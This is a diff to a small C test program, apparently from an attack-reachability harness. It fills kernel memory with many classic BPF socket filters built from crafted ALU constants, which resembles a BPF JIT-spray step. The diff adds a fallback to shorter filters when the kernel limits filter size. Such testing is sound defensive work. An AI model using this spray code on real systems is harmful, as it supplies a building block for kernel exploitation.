@@ -10,16 +10,20 @@
 #include "attack.h"
 #include <linux/filter.h>
 int main(void) {
-    enum { LENGTH = 4096 };
+    /* A hundred of 4096 instructions; of 1000 as many more, where the kernel takes no longer ones (net.core.optmem_max). */
+    enum { LENGTH = 4096, SHORTER = 1000 };
     static struct sock_filter code[LENGTH];
-    for (unsigned i = 0; i + 1 < LENGTH; i++) code[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_ADD | BPF_K, i * 65537);
-    code[LENGTH - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
-    struct sock_fprog program = { LENGTH, code };
-    int made = 0;
-    for (; made < 100; made++) {
+    for (unsigned i = 0; i < LENGTH; i++) code[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_ADD | BPF_K, i * 65537);
+    code[LENGTH - 1] = code[SHORTER - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
+    int made = 0, wanted = 100;
+    for (struct sock_fprog program = { LENGTH, code }; made < wanted; made++) {
         int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
-        if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program)) break;
+        if (fd >= 0 && setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) == 0) continue;
+        if (made || program.len == SHORTER) break;
+        program.len = SHORTER;
+        wanted = 400;
+        made--;
     }
-    if (made == 100) reached("%d filters of %d instructions", made, LENGTH);
+    if (made == wanted) reached("%d filters", made);
     return tried();
 }
